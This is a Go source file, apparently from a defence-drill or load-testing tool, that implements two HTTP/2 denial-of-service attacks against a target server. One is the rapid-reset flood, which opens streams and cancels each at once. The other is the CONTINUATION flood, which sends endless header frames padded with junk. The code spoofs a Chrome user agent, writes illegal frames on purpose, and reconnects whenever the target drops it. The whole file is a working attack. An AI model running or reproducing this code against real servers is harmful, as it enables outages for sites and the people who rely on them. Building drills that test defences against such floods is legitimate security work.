package protocol

import (
	"bytes"
	"context"
	"net"
	"sync"
	"time"

	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"

	"github.com/theriac-edge/theriac/drill/load"
	"github.com/theriac-edge/theriac/drill/record"
	"github.com/theriac-edge/theriac/drill/scenario"
)

// again is how long the attack waits before it replaces a connection that the target
// ended.
const again = 50 * time.Millisecond

// pour keeps all connections open and shares the streams, or frames, among them.
func (a *Attack) pour(ctx context.Context, pace *load.Ramp, tell outcome) {
	begun := time.Now()
	var all sync.WaitGroup
	defer all.Wait()
	for i := range a.wave.Connections {
		all.Go(func() {
			passed := 0
			due := func() int {
				return int(pace.Due(min(time.Since(begun), a.wave.For.D()))+float64(i)) / a.wave.Connections
			}
			for ctx.Err() == nil {
				a.flood(ctx, int(a.turn.Add(1)), func() (n int) {
					n, passed = due()-passed, due()
					return n
				}, tell)
				select {
				case <-ctx.Done():
				case <-time.After(again):
				}
				passed = due() // what was due without a connection is not sent in a burst
			}
		})
	}
}

// flood sends what is due over one connection until that ends.
func (a *Attack) flood(ctx context.Context, n int, due func() int, tell outcome) {
	conn, closed, err := a.secure(ctx, n, "h2")
	if err != nil {
		if o := without(ctx); o != none {
			tell(time.Now(), o)
		}
		return
	}
	defer closed()
	s := newStreams(conn, a.target.TLS.ServerName, a.wave.Paths[0])
	ended := make(chan struct{})
	go func() {
		defer close(ended)
		s.listen()
	}()
	send := s.reset
	if a.wave.Vector == scenario.Continuation {
		send = s.goOn
	}
	if err := s.greet(); err != nil {
		tell(time.Now(), held(ctx))
		return
	}
	var header []time.Time // when its frames were sent
	defer func() {
		for _, at := range header { // it has not ended: what became of it is what became of the connection
			tell(at, held(ctx))
		}
	}()
	every := time.NewTicker(4 * tick)
	defer every.Stop()
	for {
		select {
		case <-ended:
			if ctx.Err() == nil {
				tell(time.Now(), record.Forbidden)
			}
			return
		case at := <-every.C:
			count := due()
			err := send(count)
			for range count {
				switch {
				case a.wave.Vector == scenario.Continuation:
					header = append(header, at)
				case err != nil:
					tell(at, held(ctx))
				default:
					tell(at, record.Served)
				}
			}
			if err != nil {
				return
			}
		}
	}
}

// streams is a connection of HTTP/2 from below: its client keeps no rule.
type streams struct {
	conn   net.Conn
	out    bytes.Buffer // frames that are sent at once
	framer *http2.Framer
	header []byte // a request, packed
	id     uint32 // of the next stream
	begun  bool   // a header that does not end
}

func newStreams(conn net.Conn, host, path string) *streams {
	s := &streams{conn: conn, id: 1}
	s.framer = http2.NewFramer(&s.out, conn)
	s.framer.AllowIllegalWrites = true
	var packed bytes.Buffer
	pack := hpack.NewEncoder(&packed)
	for _, field := range [][2]string{
		{":method", "GET"},
		{":scheme", "https"},
		{":authority", host},
		{":path", path},
		{"user-agent", load.Chrome},
		{"accept", "text/html,*/*;q=0.8"},
		{"sec-fetch-mode", "navigate"},
		{"sec-fetch-site", "none"},
		{"sec-fetch-dest", "document"},
	} {
		_ = pack.WriteField(hpack.HeaderField{Name: field[0], Value: field[1], Sensitive: true}) // into memory
	}
	s.header = packed.Bytes()
	return s
}

// greet begins the connection.
func (s *streams) greet() error {
	s.out.WriteString(http2.ClientPreface)
	if err := s.framer.WriteSettings(); err != nil {
		return err
	}
	return s.flush()
}

func (s *streams) flush() error {
	defer s.out.Reset()
	if err := s.conn.SetWriteDeadline(time.Now().Add(load.AnswerTimeout)); err != nil {
		return err
	}
	_, err := s.conn.Write(s.out.Bytes())
	return err
}

// reset asks for so many pages, and cancels each at once.
func (s *streams) reset(n int) error {
	for range n {
		if err := s.framer.WriteHeaders(http2.HeadersFrameParam{StreamID: s.id, BlockFragment: s.header, EndStream: true, EndHeaders: true}); err != nil {
			return err
		}
		if err := s.framer.WriteRSTStream(s.id, http2.ErrCodeCancel); err != nil {
			return err
		}
		s.id += 2
	}
	return s.flush()
}

// junk is a part of a header that goes on and on.
var junk = func() []byte {
	var packed bytes.Buffer
	pack := hpack.NewEncoder(&packed)
	for range 16 {
		_ = pack.WriteField(hpack.HeaderField{Name: "x-more", Value: string(bytes.Repeat([]byte("z"), 200)), Sensitive: true}) // into memory
	}
	return packed.Bytes()
}()

// goOn sends so many more frames of a header that does not end.
func (s *streams) goOn(n int) error {
	if !s.begun && n > 0 {
		s.begun = true
		if err := s.framer.WriteHeaders(http2.HeadersFrameParam{StreamID: s.id, BlockFragment: s.header, EndStream: true}); err != nil {
			return err
		}
	}
	for range n {
		if err := s.framer.WriteContinuation(s.id, false, junk); err != nil {
			return err
		}
	}
	return s.flush()
}

// listen reads what the target sends until it says goodbye or the connection ends.
func (s *streams) listen() {
	for {
		f, err := s.framer.ReadFrame()
		if err != nil {
			return
		}
		if _, bye := f.(*http2.GoAwayFrame); bye {
			return
		}
	}
}
